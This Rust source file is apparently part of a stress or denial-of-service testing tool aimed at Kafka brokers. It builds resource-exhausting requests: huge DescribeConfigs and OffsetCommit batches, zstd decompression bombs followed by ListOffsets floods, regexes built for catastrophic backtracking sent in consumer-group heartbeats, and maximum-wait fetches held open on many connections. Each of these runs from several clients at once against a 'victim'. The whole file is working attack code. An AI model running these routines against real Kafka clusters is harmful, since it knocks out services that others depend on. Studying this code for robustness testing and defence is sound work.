//! Small requests that ask for much.

use std::time::Instant;

use anyhow::Result;
use kafka_protocol::messages::describe_configs_request::DescribeConfigsResource;
use kafka_protocol::messages::fetch_request::{FetchPartition, FetchTopic};
use kafka_protocol::messages::list_offsets_request::{ListOffsetsPartition, ListOffsetsTopic};
use kafka_protocol::messages::offset_commit_request::{
    OffsetCommitRequestPartition, OffsetCommitRequestTopic,
};
use kafka_protocol::messages::{
    ConsumerGroupHeartbeatRequest, DescribeConfigsRequest, FetchRequest, GroupId,
    ListOffsetsRequest, OffsetCommitRequest,
};
use kafka_protocol::protocol::Request;

use super::{Attack, at_once, hold};
use crate::batch::{self, Codec};
use crate::target::TOPIC;
use crate::wire::{Connection, frame, name, text};

/// The longest text that Kafka takes.
const TEXT_BYTES_MAX: usize = 32_767;
/// Partitions of a fetch that is answered late.
const PARTITIONS: i32 = 10_000;

/// Asks the same again and again from several clients. What is refused may close the connection.
fn ask_again<R: Request + Sync>(
    attack: &Attack<'_>,
    request: &R,
    version: i16,
    connect: impl Fn() -> Result<Connection> + Sync,
) -> Result<()> {
    let frame = frame(request, version)?;
    at_once(attack, 8, |_, deadline| {
        let mut connection = connect()?;
        while Instant::now() < deadline {
            if !(connection.send(&frame) && connection.skip()) {
                connection = connect()?;
            }
        }
        Ok(())
    })
}

pub(super) fn configs_repeated(attack: &Attack<'_>) -> Result<()> {
    let resource = DescribeConfigsResource::default()
        .with_resource_type(2)
        .with_resource_name(text(TOPIC))
        .with_configuration_keys(None);
    let request = DescribeConfigsRequest::default()
        .with_resources(vec![resource; 40_000])
        .with_include_synonyms(true);
    ask_again(attack, &request, 4, || attack.victim.connect(0))
}

pub(super) fn offsets_repeated(attack: &Attack<'_>) -> Result<()> {
    let group = "g".repeat(TEXT_BYTES_MAX);
    let partition = OffsetCommitRequestPartition::default().with_committed_offset(7);
    let topic = OffsetCommitRequestTopic::default()
        .with_name(name(TOPIC))
        .with_partitions(vec![partition; 5_000]);
    let request = OffsetCommitRequest::default()
        .with_group_id(GroupId(text(&group)))
        .with_generation_id_or_member_epoch(-1)
        .with_topics(vec![topic]);
    let coordinator = attack.victim.connect(0)?.coordinator(&group, 0)?;
    ask_again(attack, &request, 8, || Connection::open(&coordinator))
}

pub(super) fn timestamps_repeated(attack: &Attack<'_>) -> Result<()> {
    let mut leader = attack.victim.leader(TOPIC)?;
    // Of little use if it is refused, and then there is nothing to unpack.
    let _ = leader.produce(TOPIC, 0, &batch::bomb(Codec::Zstd, 400_000, 20)?);
    let _ = leader.produce(TOPIC, 0, &batch::bomb(Codec::Zstd, 60, 1 << 20)?);
    let partition = ListOffsetsPartition::default().with_timestamp(1);
    let topic = |partitions: usize| {
        ListOffsetsTopic::default()
            .with_name(name(TOPIC))
            .with_partitions(vec![partition.clone(); partitions])
    };
    let request =
        |partitions: usize| ListOffsetsRequest::default().with_topics(vec![topic(partitions); 10]);
    // Those who ask for most of it go before it is answered.
    for _ in 0..3 {
        attack
            .victim
            .leader(TOPIC)?
            .send(&frame(&request(10_000), 7)?);
    }
    ask_again(attack, &request(1), 7, || attack.victim.leader(TOPIC))
}

pub(super) fn patterns(attack: &Attack<'_>) -> Result<()> {
    let mut first = attack.victim.connect(0)?;
    for at in 0..50 {
        first.create(&format!("{}-{at}", "a".repeat(240)), 1, &[])?;
    }
    let coordinator = first.coordinator("patterns", 0)?;
    let patterns = [
        "(((a?){20}){20}){20}b".to_owned(),
        "a?".repeat(500),
        "(a|aa)+b".to_owned(),
        "([a-z]*){30}x".to_owned(),
    ];
    at_once(attack, 8, |at, deadline| {
        let mut connection = Connection::open(&coordinator)?;
        let mut next = at;
        while Instant::now() < deadline {
            let pattern = &patterns[next % patterns.len()];
            let request = ConsumerGroupHeartbeatRequest::default()
                .with_group_id(GroupId(text("patterns")))
                .with_member_id(text(&format!("{at}-{next}")))
                .with_rebalance_timeout_ms(10_000)
                .with_subscribed_topic_regex(Some(text(pattern)));
            connection.send(&frame(&request, 1)?);
            if !connection.skip() {
                connection = Connection::open(&coordinator)?;
            }
            next += 1;
        }
        Ok(())
    })
}

pub(super) fn fetch_waits(attack: &Attack<'_>) -> Result<()> {
    let partition = |index| {
        FetchPartition::default()
            .with_partition(index)
            .with_partition_max_bytes(1 << 20)
    };
    let topics = [TOPIC, "absent"].map(|topic| {
        FetchTopic::default()
            .with_topic(name(topic))
            .with_partitions((0..PARTITIONS).map(partition).collect())
    });
    let request = FetchRequest::default()
        .with_max_wait_ms(i32::MAX)
        .with_min_bytes(i32::MAX)
        .with_max_bytes(i32::MAX)
        .with_topics(topics.into());
    let frame = frame(&request, 12)?;
    let mut open = Vec::new();
    for at in 0..64 {
        let mut connection = attack.victim.connect(at)?;
        connection.set_patience(attack.time / 20)?;
        connection.send(&frame);
        open.push(connection);
    }
    hold(attack, open)
}
